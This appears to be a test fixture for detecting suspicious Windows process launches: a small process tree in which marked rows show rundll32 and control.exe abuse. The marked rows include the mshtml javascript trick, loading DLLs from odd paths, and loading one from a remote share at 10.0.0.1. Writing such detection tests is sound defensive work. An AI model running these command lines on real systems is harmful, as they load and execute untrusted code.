os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 103 102 ana - C:\Windows\System32\rundll32.exe | rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)
+ 104 102 ana - C:\Windows\System32\rundll32.exe | rundll32 C:\Users\Public\a.dll,Start
+ 105 102 ana - C:\Windows\System32\rundll32.exe | "C:\Windows\SysWOW64\rundll32.exe" "C:\Windows\SysWOW64\shell32.dll",#44 C:\ProgramData\a.cpl
+ 106 102 ana - C:\Windows\System32\rundll32.exe | rundll32 C:\x\a.txt,DllMain
+ 107 102 ana - C:\Windows\System32\rundll32.exe | rundll32.exe \\10.0.0.1\share\a.dll,Run
+ 108 102 ana - C:\Windows\System32\control.exe | control.exe C:\Users\ana\Downloads\a.cpl
109 101 ana - C:\Windows\System32\notepad.exe | C:\Windows\System32\notepad.exe
+ 110 109 ana - C:\Windows\System32\rundll32.exe | rundll32.exe
